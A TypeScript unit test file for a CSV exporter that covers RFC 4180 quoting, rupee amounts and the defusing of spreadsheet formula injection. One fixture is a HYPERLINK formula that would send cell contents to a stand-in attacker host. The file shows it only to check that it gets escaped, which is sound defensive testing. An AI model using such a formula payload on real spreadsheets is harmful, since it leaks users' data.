import { describe, expect, it } from 'vitest';
import { rupees, rupeesText, toCsv } from './csv';

describe('CSV (RFC 4180)', () => {
  it('quotes a field with a comma, quote or line break and ends each record with CRLF', () => {
    expect(
      toCsv(
        ['Name', 'Note'],
        [
          ['Rao, Kabir', 'said "hi"'],
          ['Two\nlines', 'plain'],
        ],
      ),
    ).toBe('Name,Note\r\n"Rao, Kabir","said ""hi"""\r\n"Two\nlines",plain\r\n');
  });

  it('writes amounts in rupees with two decimals, negative ones as numbers', () => {
    expect(toCsv(['A', 'B', 'C'], [[rupees(150_000), rupees(-1_250_50), rupees(7)]])).toBe(
      'A,B,C\r\n1500.00,-1250.50,0.07\r\n',
    );
    expect(rupeesText(0)).toBe('0.00');
  });

  it('makes text that a spreadsheet would run as a formula plain text', () => {
    const csv = toCsv(
      ['Name'],
      [
        ['=HYPERLINK("https://evil.example/?d="&A1,"PAN")'],
        ['+91 98200 11111'],
        ['-2+3'],
        ['@SUM(A1:A9)'],
        ['\tTabbed'],
        ['Kabir Rao'],
      ],
    );
    expect(csv.split('\r\n')).toEqual([
      'Name',
      `"'=HYPERLINK(""https://evil.example/?d=""&A1,""PAN"")"`,
      "'+91 98200 11111",
      "'-2+3",
      "'@SUM(A1:A9)",
      "'\tTabbed",
      'Kabir Rao',
      '',
    ]);
  });

  it('leaves empty cells empty and counts as they are', () => {
    expect(toCsv(['A', 'B', 'C'], [[null, 0, '']])).toBe('A,B,C\r\n,0,\r\n');
  });
});
